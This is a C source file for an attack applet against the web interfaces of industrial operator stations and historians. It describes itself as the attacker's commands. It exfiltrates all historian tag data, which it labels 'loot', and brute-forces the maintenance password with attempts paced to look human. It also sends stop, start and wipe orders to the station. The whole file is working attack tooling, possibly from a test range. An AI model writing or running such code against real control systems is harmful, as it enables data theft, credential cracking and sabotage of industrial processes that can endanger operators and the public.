/* The attacker's commands of the pages of operator stations and historians (upkeep.h, history.h):
 * one connection a question, over the streams of yw_applet_io. */
#include "controller/applet_inner.h"

#include "controller/http.h"
#include "controller/upkeep.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define STATION_PORT 80
#define ANSWER_MS 3000
#define PAGE_MAX (20 * 1024)
#define PAGES_MAX 128 /* of one fetch */
#define TAGS_MAX 64
#define TAG_MAX 64
#define REQUEST_MAX 512

struct visit {
    struct applet *a;
    size_t size;
    char page[PAGE_MAX]; /* head and content, with a NUL */
};

/* The status of the answer; 0: nobody answers, or not so. */
static int visit(struct visit *v, const char *request)
{
    const struct yw_applet_io *io = v->a->io;
    int stream = io->open(io->arg, yw_applet_argument(v->a, 2), STATION_PORT);
    int got = 1;
    v->size = 0;
    if (stream < 0)
        return 0;
    if (io->send(io->arg, stream, request, strlen(request))) {
        while (got > 0 && v->size < sizeof(v->page) - 1) {
            got = io->receive(io->arg, stream, v->page + v->size,
                              sizeof(v->page) - 1 - v->size, ANSWER_MS);
            v->size += got > 0 ? (size_t)got : 0;
        }
    }
    io->close(io->arg, stream);
    v->page[v->size] = '\0';
    return strncmp(v->page, "HTTP/1.1 ", 9) == 0 ? atoi(v->page + 9) : 0;
}

static const char *content(const struct visit *v)
{
    const char *end = strstr(v->page, "\r\n\r\n");
    return end != NULL ? end + 4 : "";
}

static int get(struct visit *v, const char *path)
{
    char request[REQUEST_MAX];
    (void)snprintf(request, sizeof(request), "GET %s HTTP/1.1\r\nHost: station\r\n\r\n",
                   path);
    return visit(v, request);
}

/* `password` has letters that need no escaping in a form (is_word). */
static int upkeep(struct visit *v, const char *password, const char *what)
{
    char body[160];
    char request[REQUEST_MAX];
    int size = snprintf(body, sizeof(body), "password=%s&do=%s", password, what);
    (void)snprintf(
        request, sizeof(request),
        "POST /upkeep HTTP/1.1\r\nHost: station\r\nContent-Length: %d\r\n\r\n%s", size,
        body);
    return visit(v, request);
}

static bool is_word(const char *text)
{
    static const char letters[] =
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-._@!";
    size_t size = strlen(text);
    return size > 0 && size < YW_UPKEEP_PASSWORD_MAX && strspn(text, letters) == size;
}

static bool judge(struct applet *a, int status)
{
    if (status == 200)
        return true;
    char text[32] = "unreachable";
    if (status > 0)
        (void)snprintf(text, sizeof(text), "status %d", status);
    yw_applet_refuse(a, text);
    return false;
}

static void do_order(struct visit *v)
{
    const char *verb = yw_applet_argument(v->a, 1);
    if (judge(v->a, upkeep(v, yw_applet_argument(v->a, 3), verb)))
        yw_applet_say(v->a, "{\"done\":\"%s\"}", verb);
}

/* Over a connection that says nothing: the time passes, as a person's would. */
static void rest(const struct visit *v, int64_t span_ms)
{
    const struct yw_applet_io *io = v->a->io;
    char byte = 0;
    int stream =
        span_ms > 0 ? io->open(io->arg, yw_applet_argument(v->a, 2), STATION_PORT) : -1;
    if (stream < 0)
        return;
    (void)io->receive(io->arg, stream, &byte, 1, span_ms);
    io->close(io->arg, stream);
}

static void do_guess(struct visit *v)
{
    const struct yw_applet_io *io = v->a->io;
    long every_ms = yw_applet_number(yw_applet_argument(v->a, 3), 1000);
    for (int i = 4; i < v->a->argc; i++) {
        int64_t next_ms = io->now(io->arg) + every_ms;
        int status = upkeep(v, v->a->argv[i], "login");
        if (status == 200) {
            yw_applet_say(v->a, "{\"password\":\"%s\",\"tries\":%d}", v->a->argv[i],
                          i - 3);
            return;
        }
        if (status != 403) {
            (void)judge(v->a, status);
            return;
        }
        rest(v, next_ms - io->now(io->arg));
    }
    yw_applet_refuse(v->a, "no word opens it");
}

/* The names in {"tags":[{"name":"…", how many. */
static size_t take_tags(const struct visit *v, char tags[TAGS_MAX][TAG_MAX])
{
    static const char key[] = "\"name\":\"";
    size_t count = 0;
    for (const char *at = content(v);
         (at = strstr(at, key)) != NULL && count < TAGS_MAX;) {
        at += sizeof(key) - 1;
        size_t size = strcspn(at, "\"");
        if (size > 0 && size < TAG_MAX && strcspn(at, " &#%\r\n") >= size) {
            memcpy(tags[count], at, size);
            tags[count++][size] = '\0';
        }
        at += size;
    }
    return count;
}

struct loot {
    size_t pages, rows, bytes;
};

/* All of one tag, page by page. */
static bool fetch_tag(struct visit *v, const char *tag, struct loot *loot)
{
    char path[REQUEST_MAX / 2];
    long long from = 0;
    while (loot->pages++ < PAGES_MAX) {
        (void)snprintf(path, sizeof(path), "/csv?tag=%.63s&from=%lld", tag, from);
        if (!judge(v->a, get(v, path)))
            return false;
        const char *text = content(v);
        const char *next = strstr(text, "# next,");
        loot->bytes += strlen(text);
        for (const char *at = text; (at = strchr(at, '\n')) != NULL; at++)
            loot->rows++;
        size_t others = next != NULL ? 2 : 1; /* the head of the table, the last line */
        loot->rows -= loot->rows < others ? loot->rows : others;
        if (next == NULL)
            return true;
        from = atoll(next + 7);
    }
    return true;
}

static void do_fetch(struct visit *v)
{
    char tags[TAGS_MAX][TAG_MAX];
    struct loot loot = {0};
    const char *wanted = yw_applet_argument(v->a, 3);
    size_t taken = 0;
    if (!judge(v->a, get(v, "/tags")))
        return;
    size_t count = take_tags(v, tags);
    for (size_t i = 0; i < count; i++) {
        if (strcmp(wanted, "*") != 0 && strcmp(wanted, tags[i]) != 0)
            continue;
        if (!fetch_tag(v, tags[i], &loot))
            return;
        taken++;
    }
    if (taken == 0 && strcmp(wanted, "*") != 0)
        yw_applet_refuse(v->a, "no such tag");
    else
        yw_applet_say(v->a, "{\"tags\":%zu,\"rows\":%zu,\"bytes\":%zu}", taken, loot.rows,
                      loot.bytes);
}

void yw_applet_station(struct applet *a)
{
    static const struct {
        const char *verb;
        int least, most; /* arguments */
        int words;       /* from here on only letters of a password */
        void (*run)(struct visit *v);
    } verbs[] = {{"fetch", 4, 4, 4, do_fetch},
                 {"guess", 5, 20, 4, do_guess},
                 {"stop", 4, 4, 3, do_order},
                 {"start", 4, 4, 3, do_order},
                 {"wipe", 4, 4, 3, do_order}};
    const size_t count = sizeof(verbs) / sizeof(verbs[0]);
    uint32_t ignored = 0;
    size_t verb = 0;
    while (verb < count && strcmp(verbs[verb].verb, yw_applet_argument(a, 1)) != 0)
        verb++;
    bool good = verb < count && a->argc >= verbs[verb].least &&
                a->argc <= verbs[verb].most && a->io->open != NULL &&
                yw_applet_address(yw_applet_argument(a, 2), &ignored);
    for (int i = good ? verbs[verb].words : 0; good && i < a->argc; i++)
        good = is_word(a->argv[i]);
    if (!good) {
        yw_applet_refuse(a, "usage: station fetch HOST TAG|* | guess HOST EVERY_MS "
                            "WORD... | stop|start|wipe HOST PASSWORD");
        return;
    }
    struct visit v = {.a = a};
    verbs[verb].run(&v);
}
